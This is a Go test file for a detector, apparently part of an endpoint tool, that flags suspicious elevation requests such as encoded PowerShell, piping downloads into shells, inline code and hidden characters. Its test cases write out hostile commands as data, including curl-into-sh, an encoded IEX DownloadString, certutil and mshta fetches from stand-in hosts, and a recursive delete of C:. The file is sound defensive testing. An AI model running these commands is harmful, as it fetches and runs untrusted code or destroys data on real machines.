package model

import (
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"regexp"
	"slices"
	"testing"
	"time"
	"unicode/utf16"
)

// encoded is a text as -EncodedCommand takes it.
func encoded(text string) string {
	var b []byte
	for _, u := range utf16.Encode([]rune(text)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func names(hints []Hint) []string {
	var all []string
	for _, h := range hints {
		if !slices.Contains(all, h.Name) {
			all = append(all, h.Name)
		}
	}
	return all
}

var noon = time.Date(2026, 11, 18, 12, 0, 0, 0, time.UTC) // a Wednesday

func TestHints(t *testing.T) {
	t.Parallel()
	const power, system = "powershell.exe", `C:\Windows\System32\WindowsPowerShell\v1.0`
	get := encoded("Get-Process")
	for _, tt := range []struct {
		name, path, file, line string
		want                   []string
	}{
		{"a plain command", "/usr/bin", "sudo", "apt-get install nginx", nil},
		{"a plain installer", `C:\Program Files\Vendor`, "installer-setup.exe", "/quiet /norestart", nil},
		{"an encoded command", system, power, "-NoProfile -EncodedCommand " + get, []string{HintEncoded}},
		{"-e alone", system, power, "-e " + get, []string{HintEncoded}},
		{"-ec", system, power, "-ec " + get, []string{HintEncoded}},
		{"in another case, with a slash", system, power, "/eNc " + get, []string{HintEncoded}},
		{"with the dash of typographers", system, power, "\u2013enco " + get, []string{HintEncoded}},
		{"two dashes", "/usr/bin", "pwsh", "--encodedcommand " + get, []string{HintEncoded}},
		{"in quotation marks", system, power, `-enc "` + get + `"`, []string{HintEncoded}},
		{"through cmd, with carets", `C:\Windows\System32`, "cmd.exe", `/c pow^ershell -e^nc ` + get, []string{HintEncoded, HintInline}},
		{"in one argument of a shell", "/bin", "sh", `-c "pwsh -enc ` + get + `"`, []string{HintEncoded, HintInline}},
		{"by a program of another name", `C:\Program Files\x`, "update.exe", "-enc " + get, []string{HintEncoded}},
		{"what cannot be decoded is told", system, power, "-enc !!!", []string{HintEncoded}},
		{"-ExecutionPolicy is not -EncodedCommand", system, power, "-ex RemoteSigned -File C:\\x.ps1", nil},
		{"-e of another program", "/usr/bin", "grep", "-e pattern file", nil},
		{"a download that is encoded", system, power, "-enc " + encoded("IEX (New-Object Net.WebClient).DownloadString('http://x')"),
			[]string{HintEncoded, HintDownload}},

		{"a download into a shell", "/bin", "bash", `-c "curl -fsSL https://x.example | sh"`, []string{HintDownload, HintInline}},
		{"a pipe through sudo", "/bin", "sh", `-c "wget -qO- https://x.example | sudo bash"`, []string{HintDownload, HintInline}},
		{"after another command", "/bin", "sh", `-c "cd /opt; curl -O https://x.example"`, []string{HintDownload, HintInline}},
		{"in a substitution", "/bin", "bash", `-c 'eval $(curl https://x.example)'`, []string{HintDownload, HintInline}},
		{"with options before it", "/bin", "bash", `-x -c "curl https://x.example"`, []string{HintDownload, HintInline}},
		{"by PowerShell", system, power, `-Command "iwr https://x.example -OutFile a"`, []string{HintDownload, HintInline}},
		{"by .NET in PowerShell", system, power, `-c "(New-Object Net.WebClient).DownloadFile('http://x','y')"`, []string{HintDownload, HintInline}},
		{"certutil from the web", `C:\Windows\System32`, "certutil.exe", "-urlcache -f http://x.example/a a.exe", []string{HintDownload}},
		{"mshta from the web", `C:\Windows\System32`, "mshta.exe", "https://x.example/a.hta", []string{HintDownload}},
		{"installing curl is no download", "/usr/bin", "sudo", "apt-get install curl bash", nil},
		{"curl without a shell", "/usr/bin", "curl", "-O https://x.example/file", nil},
		{"a shell that installs curl", "/bin", "bash", `-c 'apt-get install curl'`, []string{HintInline}},
		{"certutil on a file", `C:\Windows\System32`, "certutil.exe", "-hashfile C:\\x.iso SHA256", nil},
		{"a name that holds one", "/usr/bin", "apt-get", "install bash-completion libcurl4", nil},

		{"python -c", "/usr/bin", "python3.12", `-c "import os"`, []string{HintInline}},
		{"python with options before", "/usr/bin", "python3", `-B -u -c "import os"`, []string{HintInline}},
		{"through sudo", "/usr/bin", "sudo", `perl -e 'print 1'`, []string{HintInline}},
		{"through sudo with a user", "/usr/bin", "sudo", `-n -u root ruby -e 'puts 1'`, []string{HintInline}},
		{"node --eval", "/usr/bin", "node", `--eval "1"`, []string{HintInline}},
		{"php -r", "/usr/bin", "php", `-r "echo 1;"`, []string{HintInline}},
		{"cmd /c", `C:\Windows\System32`, "cmd.exe", `/s /c dir`, []string{HintInline}},
		{"bash -lc", "/bin", "bash", `-lc "id"`, []string{HintInline}},
		{"mshta with a script", `C:\Windows\System32`, "mshta.exe", `javascript:alert(1)`, []string{HintInline}},
		{"a script file is no inline code", "/usr/bin", "python3", `/opt/tool/run.py -c conf.ini`, nil},
		{"a shell with a script", "/bin", "bash", `/opt/setup.sh -c`, nil},
		{"another program's -c", "/usr/bin", "tar", `-c -f x.tar /etc`, nil},

		{"a program in the downloads", `C:\Users\zoe\Downloads`, "setup.exe", "", []string{HintWritable}},
		{"with slashes and in another case", `c:/users/zoe`, "setup.exe", "", []string{HintWritable}},
		{"through dots", `C:\Windows\..\Temp`, "x.exe", "", []string{HintWritable}},
		{"through dots on POSIX", "/usr/../tmp", "x", "", []string{HintWritable}},
		{"on a share", `\\host\share`, "x.exe", "", []string{HintWritable}},
		{"in the home", "/home/carol/bin", "tool", "", []string{HintWritable}},
		{"on a Mac", "/Users/carol/Downloads", "tool", "", []string{HintWritable}},
		{"an argument in /tmp", "/usr/bin", "dpkg", "-i /tmp/x.deb", []string{HintWritable}},
		{"an argument behind =", "/usr/bin", "dpkg", "--file=/dev/shm/x", []string{HintWritable}},
		{"a variable", `C:\Windows\System32`, "msiexec.exe", `/i %TEMP%\x.msi`, []string{HintWritable}},
		{"the system's folder", `C:\Windows\System32`, "mmc.exe", "dsa.msc", nil},
		{"a folder that only sounds so", "/opt/tmp", "x", "/usr/home/x", nil},
		{"out of a writable folder by dots", `C:\Program Files\Users\x`, "x.exe", "", nil},

		{"no signature checks", "/usr/bin", "sudo", "apt-get install x --allow-unauthenticated", []string{HintUnsigned}},
		{"no gpg check", "/usr/bin", "dnf", "install x --nogpgcheck", []string{HintUnsigned}},
		{"an option that only begins so", "/usr/bin", "x", "--force-yes-or-no=1x --nogpgchecker", []string{HintUnsigned}},
		{"a policy is bypassed", system, power, `-ExecutionPolicy Bypass -File C:\x.ps1`, []string{HintUnguarded}},
		{"a firewall is switched off", `C:\Windows\System32`, "netsh.exe", "advfirewall set allprofiles state off", nil},

		{"text that runs the other way", "/opt", "x\u202egnp.exe", "", []string{HintHidden}},
		{"an escape sequence", "/opt", "x", "a\x1b[2Jb", []string{HintHidden}},
		{"a character of no width", "/opt", "su\u200bdo", "", []string{HintHidden}},
		{"other scripts are not hidden", "/opt", "東京", "ünï", nil},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			e := elevation(tt.path, tt.file, tt.line)
			e.Created = noon
			hints := Hints(e, nil, nil, noon)
			if !slices.Equal(names(hints), tt.want) {
				t.Errorf("Hints = %v, want %v", hints, tt.want)
			}
			for _, h := range hints {
				if h.Says == "" || h.Key == "" || h.Found == "" {
					t.Errorf("%s explains nothing: %+v", h.Name, h)
				}
			}
		})
	}
}

func TestAnEncodedCommandIsShownDecoded(t *testing.T) {
	t.Parallel()
	hints := Hints(elevation("/usr/bin", "pwsh", "-enc "+encoded("Remove-Item -Recurse C:\\\u202e")), nil, nil, noon)
	if hints[0].Found != "Remove-Item -Recurse C:\\\u202e" {
		t.Errorf("found %q", hints[0].Found)
	}
}

func TestAHintOnAMissingKeyNeverMatches(t *testing.T) {
	t.Parallel()
	everything := []HintRule{{"all", KeyCommand, regexp.MustCompile(""), "x"}, {"none", "Publisher", regexp.MustCompile("^$"), "x"}}
	for _, e := range []EndpointRequest{{}, {Facts: []Fact{{GroupApplication, KeyCommand, ""}, {GroupAccount, KeyUser, ""}}}} {
		if got := Hints(e, make([]EndpointRequest, 20), everything, noon); got != nil {
			t.Errorf("hints on nothing: %v", got)
		}
		if got := LookAlikeHints(e, make([]EndpointRequest, 20), func(n []string) map[string][]string { return map[string][]string{"": {"x"}} },
			func(string) []string { return []string{"Latin", "Cyrillic"} }); got != nil {
			t.Errorf("look-alikes on nothing: %v", got)
		}
	}
}

func TestAHintOfTheConfiguration(t *testing.T) {
	t.Parallel()
	rule := HintRule{"reg", KeyCommand, regexp.MustCompile(`(?i)\breg(\.exe)?\s+add\b`), "changes the registry"}
	for line, want := range map[string]bool{"reg add HKLM": true, "REG.EXE  ADD x": true, "reg query HKLM": false, "": false} {
		got := Hints(elevation(`C:\Windows`, "x.exe", line), nil, []HintRule{rule}, noon)
		if (len(got) == 1 && got[0].Name == "reg" && got[0].Says == "changes the registry") != want {
			t.Errorf("%q: %v", line, got)
		}
	}
}

func TestOddHours(t *testing.T) {
	t.Parallel()
	east := time.FixedZone("EAST", 9*3600)
	for _, tt := range []struct {
		at   time.Time
		zone *time.Location
		want bool
	}{
		{noon, time.UTC, false},
		{noon, time.FixedZone("X", 10*3600), true}, // 22:00 there
		{noon.Add(-6 * time.Hour), time.UTC, false},
		{noon.Add(-6*time.Hour - time.Second), time.UTC, true},
		{noon.Add(10*time.Hour - time.Second), time.UTC, false},
		{noon.Add(10 * time.Hour), time.UTC, true},
		{noon.Add(3 * 24 * time.Hour), time.UTC, true}, // Saturday
		{noon.Add(2*24*time.Hour + 4*time.Hour), east, true},
		{time.Time{}, time.UTC, false},
	} {
		got := Hints(EndpointRequest{Created: tt.at}, nil, nil, noon.In(tt.zone))
		if slices.Contains(names(got), HintOddHour) != tt.want {
			t.Errorf("%s in %s: %v, want %v", tt.at, tt.zone, got, tt.want)
		}
	}
}

func TestABurstOfOneUser(t *testing.T) {
	t.Parallel()
	by := func(user, domain string, n int, at time.Time) EndpointRequest {
		return EndpointRequest{UID: UID(fmt.Sprintf("%s%s%d", user, domain, n)), Created: at,
			Facts: []Fact{{GroupAccount, KeyUser, user}, {GroupAccount, KeyDomain, domain}}}
	}
	e := by("carol", "", 0, noon)
	row := func(user, domain string, n int, ago time.Duration) (all []EndpointRequest) {
		for i := range n {
			all = append(all, by(user, domain, i+1, noon.Add(-ago)))
		}
		return all
	}
	for _, tt := range []struct {
		name   string
		recent []EndpointRequest
		want   bool
	}{
		{"five within ten minutes", row("carol", "", 4, 10*time.Minute), true},
		{"case does not matter", row("Carol", "", 4, time.Minute), true},
		{"four are few", row("carol", "", 3, time.Minute), false},
		{"itself counts once", append(row("carol", "", 3, time.Minute), e, e), false},
		{"one request seen twice counts once", append(row("carol", "", 3, time.Minute), row("carol", "", 3, time.Minute)...), false},
		{"long ago", row("carol", "", 9, 10*time.Minute+time.Second), false},
		{"later ones do not count", row("carol", "", 9, -time.Second), false},
		{"of another user", row("bob", "", 9, time.Minute), false},
		{"of another domain", row("carol", "CORP", 9, time.Minute), false},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			if got := names(Hints(e, tt.recent, nil, noon)); slices.Contains(got, HintBurst) != tt.want {
				t.Errorf("hints %v, want a burst: %v", got, tt.want)
			}
		})
	}
}
